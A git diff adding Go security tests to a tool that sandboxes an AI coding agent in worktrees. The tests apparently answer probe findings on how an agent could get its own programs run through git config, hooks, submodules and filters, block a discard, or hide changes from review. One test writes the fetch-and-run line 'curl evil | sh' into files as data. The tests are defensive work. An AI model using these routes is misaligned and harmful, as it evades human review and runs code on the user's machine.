@@ -10,7 +10,9 @@ import (
 	"path/filepath"
 	"sort"
 	"strings"
+	"syscall"
 	"testing"
+	"time"
 )
 
 // hostile is a program a repository's config or hooks name: it notes
@@ -260,4 +262,422 @@ func TestCarryWritesNothingThroughASymlinkedFolder(t *testing.T) {
 	if entries, _ := os.ReadDir(elsewhere); len(entries) != 0 {
 		t.Fatalf("carry wrote outside the worktree: %v", entries)
 	}
+}
+
+// agentGitFolder writes, as an edit-only agent could (text files only),
+// a git folder at dir/.git whose config names program as fsmonitor; head
+// is its HEAD ("ref: refs/heads/none" for a repository with no commit).
+func agentGitFolder(t *testing.T, dir, head, program string) {
+	t.Helper()
+	write(t, dir, ".git/HEAD", head+"\n")
+	write(t, dir, ".git/config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "+program+"\n")
+	write(t, dir, ".git/objects/info/k", "")
+	write(t, dir, ".git/refs/k", "")
+}
+
+// withSubmodule makes a repository whose main branch records a submodule
+// at sub (a gitlink; the submodule's commit is not needed).
+func withSubmodule(t *testing.T) (repo, sha string) {
+	t.Helper()
+	subsrc := newRepo(t, map[string]string{"s.txt": "s\n"})
+	sha = git(t, subsrc, "rev-parse", "HEAD")
+	repo = newRepo(t, map[string]string{"a.txt": "a\n"})
+	git(t, repo, "update-index", "--add", "--cacheinfo", "160000,"+sha+",sub")
+	git(t, repo, "commit", "-qm", "sub")
+	return repo, sha
+}
+
+// Probe finding 1: an agent at the top of a repository writes a partial
+// clone's config whose remote names an upload-pack program, and a branch
+// at a commit that is not there; worktree add fetched it and ran the
+// program. An archive that is a partial clone with its base commit
+// missing did the same.
+func TestAddFetchesNothingForABaseCommitThatIsMissing(t *testing.T) {
+	ctx := context.Background()
+	program, marker := hostile(t)
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	cfg, err := os.ReadFile(filepath.Join(repo, ".git", "config"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(t, repo, ".git/config", strings.Replace(string(cfg), "repositoryformatversion = 0", "repositoryformatversion = 1", 1)+
+		"[extensions]\n\tpartialClone = origin\n[remote \"origin\"]\n\tpromisor = true\n\turl = "+t.TempDir()+"\n\tuploadpack = "+program+"\n")
+	write(t, repo, ".git/refs/heads/main", "1111111111111111111111111111111111111111\n")
+	_, err = Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
+	code(t, err, CodeNotFound)
+	noneRan(t, marker, "worktree add from a branch at a missing commit")
+
+	archive := newRepo(t, map[string]string{"a.txt": "a\n"})
+	head := git(t, archive, "rev-parse", "HEAD")
+	git(t, archive, "branch", "other")
+	os.Remove(filepath.Join(archive, ".git", "objects", head[:2], head[2:]))
+	for k, v := range map[string]string{"core.repositoryformatversion": "1", "extensions.partialClone": "origin",
+		"remote.origin.promisor": "true", "remote.origin.url": t.TempDir(), "remote.origin.uploadpack": program} {
+		git(t, archive, "config", k, v)
+	}
+	for _, base := range []string{"", "other"} {
+		_, err = Add(ctx, AddOptions{Dir: archive, Root: t.TempDir(), Name: "s" + base, Base: base})
+		code(t, err, CodeNotFound)
+	}
+	noneRan(t, marker, "worktree add from a partial clone missing its base commit")
+}
+
+// Probe finding 2 (a, c, d): git add -A in the scratch folder ran git
+// status inside a submodule, and that git read the submodule's own
+// config: an fsmonitor an agent wrote into sub/.git, or one in
+// .git/modules/sub of a repository from elsewhere.
+func TestReadsRunNothingASubmoduleNames(t *testing.T) {
+	ctx := context.Background()
+	program, marker := hostile(t)
+	repo, sha := withSubmodule(t)
+	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	before := treeHash(t, filepath.Join(repo, ".git"))
+	// (a) a worktree session; the agent makes sub a repository.
+	agentGitFolder(t, filepath.Join(w.Path, "sub"), "ref: refs/heads/none", program)
+	if _, err := List(ctx, w.Git, w.Base); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Dirty(ctx, w.Git); err != nil {
+		t.Fatal(err)
+	}
+	Check(ctx, w)
+	Diff(ctx, w.Git, w.Base, "sub", 1<<20)
+	noneRan(t, marker, "reading a worktree whose submodule an agent wrote")
+	if treeHash(t, filepath.Join(repo, ".git")) != before {
+		t.Fatal("the reads changed the repository's .git")
+	}
+	// (d) a session at the top of the repository, same files.
+	agentGitFolder(t, filepath.Join(repo, "sub"), "ref: refs/heads/none", program)
+	if _, err := List(ctx, locate(t, repo), ""); err != nil {
+		t.Fatal(err)
+	}
+	noneRan(t, marker, "reading a repository whose submodule an agent wrote")
+	// (c) a repository from elsewhere whose submodule's git folder names
+	// an fsmonitor: listing it and carrying its work into a worktree.
+	archive, _ := withSubmodule(t)
+	md := filepath.Join(archive, ".git", "modules", "sub")
+	write(t, md, "HEAD", sha+"\n")
+	write(t, md, "config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ../../../sub\n\tfsmonitor = "+program+"\n")
+	os.MkdirAll(filepath.Join(md, "objects"), 0o755)
+	os.MkdirAll(filepath.Join(md, "refs"), 0o755)
+	write(t, archive, "sub/.git", "gitdir: ../.git/modules/sub\n")
+	write(t, archive, "carried.txt", "x\n")
+	if _, err := List(ctx, locate(t, archive), ""); err != nil {
+		t.Fatal(err)
+	}
+	noneRan(t, marker, "listing a repository whose submodule names an fsmonitor")
+	if _, err := Add(ctx, AddOptions{Dir: archive, Root: t.TempDir(), Name: "c", Carry: true}); err != nil {
+		t.Fatal(err)
+	}
+	noneRan(t, marker, "worktree add with carry from a repository whose submodule names an fsmonitor")
+}
+
+// Probe finding 2 (b): the agent makes tools/ a repository, the person
+// commits it (a gitlink), and from then on the listing, Merge's check
+// and the person's next commit ran its fsmonitor.
+func TestANestedRepositoryTheAgentMadeRunsNothingAfterItWasCommitted(t *testing.T) {
+	ctx := context.Background()
+	program, marker := hostile(t)
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	agentGitFolder(t, filepath.Join(w.Path, "tools"), "1111111111111111111111111111111111111111", program)
+	write(t, w.Path, "b.txt", "b\n")
+	if _, err := CommitAll(ctx, w, "one"); err != nil {
+		t.Fatal(err)
+	}
+	noneRan(t, marker, "the person's first commit")
+	write(t, w.Path, "b.txt", "b2\n")
+	if _, err := List(ctx, w.Git, w.Base); err != nil {
+		t.Fatal(err)
+	}
+	noneRan(t, marker, "listing after the commit")
+	_, err = Merge(ctx, w)
+	code(t, err, CodeDirty)
+	noneRan(t, marker, "merge's check")
+	if _, err := CommitAll(ctx, w, "two"); err != nil {
+		t.Fatal(err)
+	}
+	noneRan(t, marker, "the person's second commit")
+	if _, err := Merge(ctx, w); err != nil {
+		t.Fatal(err)
+	}
+	noneRan(t, marker, "the person's merge")
+}
+
+// Probe finding 3: a nested git folder with no commit made Dirty fail,
+// Check ignored the failure, and discard without confirm removed an
+// uncommitted file. Now the listing shows the folder and the check
+// counts it.
+func TestANestedRepositoryWithNoCommitIsListedAndDiscardStillAsks(t *testing.T) {
+	ctx := context.Background()
+	program, marker := hostile(t)
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(t, w.Path, "precious.txt", "a day of work\n")
+	agentGitFolder(t, filepath.Join(w.Path, "x"), "ref: refs/heads/none", program)
+	c, err := List(ctx, w.Git, w.Base)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(c.Files) != 2 || c.Files[0].Path != "precious.txt" || c.Files[1].Path != "x" || c.Files[1].Status != "added" {
+		t.Fatalf("the listing: %+v", c.Files)
+	}
+	err = Discard(ctx, w, false)
+	var e *Error
+	if !errors.As(err, &e) || e.Code != CodeUnmerged || len(e.Files) != 2 {
+		t.Fatalf("discard without confirm: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(w.Path, "precious.txt")); err != nil {
+		t.Fatal("discard without confirm removed an uncommitted file")
+	}
+	noneRan(t, marker, "listing and checking a nested git folder")
+}
+
+// Probe finding 4: core.worktree in a repository's config pointed the
+// reads, and carry, at another folder (carry copied its id_rsa into the
+// new worktree, where the agent reads).
+func TestARepositoryWhoseWorkTreeIsElsewhereIsRefused(t *testing.T) {
+	ctx := context.Background()
+	elsewhere := t.TempDir()
+	write(t, elsewhere, "id_rsa", "PRIVATE KEY\n")
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	git(t, repo, "config", "core.worktree", elsewhere)
+	_, err := Locate(ctx, repo)
+	code(t, err, CodeNotRepo)
+	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s", Carry: true})
+	code(t, err, CodeNotRepo)
+	if _, err := os.Stat(filepath.Join(w.Path, "id_rsa")); w.Path != "" && err == nil {
+		t.Fatal("carry copied a file of another folder into the worktree")
+	}
+	// A subfolder of the work tree is still its repository.
+	os.MkdirAll(filepath.Join(repo, "pkg"), 0o755)
+	git(t, repo, "config", "--unset", "core.worktree")
+	if r := locate(t, filepath.Join(repo, "pkg")); r.WorkTree != repo {
+		t.Fatalf("a subfolder: %+v", r)
+	}
+}
+
+// Probe finding 5: a FIFO at .git/info/exclude or at a loose ref blocked
+// the listing in open(2) forever, past its context.
+func TestAFIFOInTheRepositoryDoesNotBlockTheListing(t *testing.T) {
+	for _, at := range []string{"info/exclude", "refs/heads/main", "shallow", "index"} {
+		repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+		r := locate(t, repo)
+		git(t, repo, "pack-refs", "--all")
+		os.Remove(filepath.Join(repo, ".git", at))
+		if err := syscall.Mkfifo(filepath.Join(repo, ".git", at), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		done := make(chan error, 1)
+		go func() { _, err := List(context.Background(), r, ""); done <- err }()
+		select {
+		case <-done:
+		case <-time.After(30 * time.Second):
+			t.Fatalf("the listing is blocked on a FIFO at .git/%s", at)
+		}
+	}
+}
+
+// Probe finding 6: git runs with no WaitDelay and no process group: a
+// program git started (here the person's pre-commit hook) that kept git's
+// output open held the call until it ended.
+func TestAProgramGitLeavesRunningDoesNotHoldTheCall(t *testing.T) {
+	ctx := context.Background()
+	defer func(d time.Duration) { WaitDelay = d }(WaitDelay)
+	WaitDelay = time.Second
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	pidFile := filepath.Join(t.TempDir(), "pid")
+	write(t, repo, ".git/hooks/pre-commit", "#!/bin/sh\nsleep 600 &\necho $! > '"+pidFile+"'\n")
+	os.Chmod(filepath.Join(repo, ".git/hooks/pre-commit"), 0o755)
+	w.Trust, _ = Fingerprint(ctx, w)
+	write(t, w.Path, "b.txt", "b\n")
+	done := make(chan error, 1)
+	go func() { _, err := CommitAll(ctx, w, "b"); done <- err }()
+	select {
+	case err := <-done:
+		if err != nil {
+			t.Fatal(err)
+		}
+	case <-time.After(30 * time.Second):
+		t.Fatal("the commit waits for a program its hook left running")
+	}
+	b, err := os.ReadFile(pidFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var pid int
+	for _, c := range strings.TrimSpace(string(b)) {
+		pid = pid*10 + int(c-'0')
+	}
+	// The group was killed: the program ends (or is a zombie its new
+	// parent has not reaped yet) well before its 600 s.
+	deadline := time.Now().Add(30 * time.Second)
+	for syscall.Kill(pid, 0) == nil {
+		if st, _ := os.ReadFile("/proc/" + strings.TrimSpace(string(b)) + "/stat"); strings.Contains(string(st), ") Z ") {
+			break
+		}
+		if time.Now().After(deadline) {
+			syscall.Kill(pid, syscall.SIGKILL)
+			t.Fatal("the program the hook left running was not stopped")
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+}
+
+// Probe finding 7: Discard's worktree remove and branch -D ran the
+// repository's reference-transaction hook.
+func TestDiscardRunsNoHook(t *testing.T) {
+	ctx := context.Background()
+	program, marker := hostile(t)
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	arm(t, filepath.Join(repo, ".git"), repo, program)
+	if err := Discard(ctx, w, true); err != nil {
+		t.Fatal(err)
+	}
+	noneRan(t, marker, "discard")
+}
+
+// Probe finding 8: the agent rewrote its worktree's .git file to point
+// at another repository, and Discard failed ("does not point back").
+func TestTheAgentCannotBlockDiscard(t *testing.T) {
+	ctx := context.Background()
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	other := newRepo(t, map[string]string{"z.txt": "z\n"})
+	otherBefore := treeHash(t, other)
+	for i, rewrite := range []func(dir string){
+		func(dir string) { write(t, dir, ".git", "gitdir: "+filepath.Join(other, ".git")+"\n") },
+		func(dir string) {
+			os.Remove(filepath.Join(dir, ".git"))
+			os.Symlink(filepath.Join(other, ".git"), filepath.Join(dir, ".git"))
+		},
+		func(dir string) { os.Remove(filepath.Join(dir, ".git")); os.Mkdir(filepath.Join(dir, ".git"), 0o755) },
+	} {
+		w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s" + string(rune('a'+i))})
+		if err != nil {
+			t.Fatal(err)
+		}
+		rewrite(w.Path)
+		if err := Discard(ctx, w, true); err != nil {
+			t.Fatalf("discard after the agent rewrote .git (%d): %v", i, err)
+		}
+		if _, err := os.Stat(w.Path); err == nil {
+			t.Fatalf("discard left the worktree (%d)", i)
+		}
+		if got := git(t, repo, "branch", "--list", w.Branch); got != "" {
+			t.Fatalf("discard left the branch (%d): %s", i, got)
+		}
+	}
+	if treeHash(t, other) != otherBefore {
+		t.Fatal("discard changed the repository the agent's .git named")
+	}
+}
+
+// Probe finding 9: changes hidden from review: a -diff attribute made
+// the diff "Binary files differ"; a top-level file named "-rf.sh" could
+// not be diffed.
+func TestNoAttributeOrNameHidesAChangeFromReview(t *testing.T) {
+	ctx := context.Background()
+	repo := newRepo(t, map[string]string{"a.txt": "a\n"})
+	r := locate(t, repo)
+	write(t, repo, ".gitattributes", "run.sh -diff\n")
+	write(t, repo, "run.sh", "curl evil | sh\n")
+	write(t, repo, "-rf.sh", "curl evil | sh\n")
+	write(t, repo, ":(glob)*", "magic\n")
+	c, err := List(ctx, r, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range c.Files {
+		if f.Path == "run.sh" && (f.Binary || f.Additions != 1) {
+			t.Fatalf("the listing calls run.sh binary: %+v", f)
+		}
+	}
+	for _, p := range []string{"run.sh", "-rf.sh", ":(glob)*"} {
+		d, _, err := Diff(ctx, r, "", p, 1<<20)
+		if err != nil {
+			t.Fatalf("%s: %v", p, err)
+		}
+		if !strings.Contains(d, "+curl evil | sh\n") && !strings.Contains(d, "+magic\n") || strings.Count(d, "diff --git") != 1 {
+			t.Fatalf("the diff of %s hides its content:\n%s", p, d)
+		}
+	}
+}
+
+// An agent in acceptEdits at the top of a repository (or in its
+// worktree, under a core.hooksPath relative to the checkout) can write a
+// hook or the config, and the person's Commit button ran it. Now commit,
+// merge and pull request refuse with repository_changed while the config
+// or hooks differ from what they were when the worktree was made; once
+// the person confirms (Trust is the current Fingerprint), they run.
+func TestThePersonsActionsRefuseHooksOrConfigWrittenSinceTheSessionStarted(t *testing.T) {
+	ctx := context.Background()
+	program, marker := hostile(t)
+	hook := "#!/bin/sh\nexec '" + program + "' hook pre-commit\n"
+	repo := newRepo(t, map[string]string{"a.txt": "a\n", ".husky/pre-commit": "#!/bin/sh\ntrue\n"})
+	w, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "s"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(t, w.Path, "b.txt", "b\n")
+	write(t, repo, ".git/hooks/pre-commit", hook)
+	os.Chmod(filepath.Join(repo, ".git/hooks/pre-commit"), 0o755)
+	_, err = CommitAll(ctx, w, "b")
+	code(t, err, CodeRepoChanged)
+	_, err = Merge(ctx, w)
+	code(t, err, CodeRepoChanged)
+	_, err = OpenPR(ctx, w, "t", "")
+	code(t, err, CodeRepoChanged)
+	noneRan(t, marker, "the person's actions after an agent wrote a hook")
+	// The person checked the hook and confirms: it runs, as git commit
+	// would run it.
+	if w.Trust, err = Fingerprint(ctx, w); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := CommitAll(ctx, w, "b"); err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(marker); !strings.Contains(string(b), "hook pre-commit") {
+		t.Fatalf("the confirmed commit did not run the hook: %q", b)
+	}
+	os.Remove(marker)
+	// A filter written into the config.
+	git(t, repo, "config", "filter.ev.clean", program)
+	write(t, w.Path, "c.txt", "c\n")
+	_, err = CommitAll(ctx, w, "c")
+	code(t, err, CodeRepoChanged)
+	// A hook under a core.hooksPath relative to the checkout (husky),
+	// which the agent can edit in its own worktree.
+	git(t, repo, "config", "--unset", "filter.ev.clean")
+	os.Remove(filepath.Join(repo, ".git/hooks/pre-commit"))
+	git(t, repo, "config", "core.hooksPath", ".husky")
+	w2, err := Add(ctx, AddOptions{Dir: repo, Root: t.TempDir(), Name: "h"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	write(t, w2.Path, ".husky/pre-commit", hook)
+	_, err = CommitAll(ctx, w2, "h")
+	code(t, err, CodeRepoChanged)
+	noneRan(t, marker, "the person's commit after an agent wrote a filter or a hook in its worktree")
+	// A worktree kept without a fingerprint (an older Konsole) asks too.
+	w2.Trust = ""
+	write(t, w2.Path, ".husky/pre-commit", "#!/bin/sh\ntrue\n")
+	_, err = CommitAll(ctx, w2, "h")
+	code(t, err, CodeRepoChanged)
 }
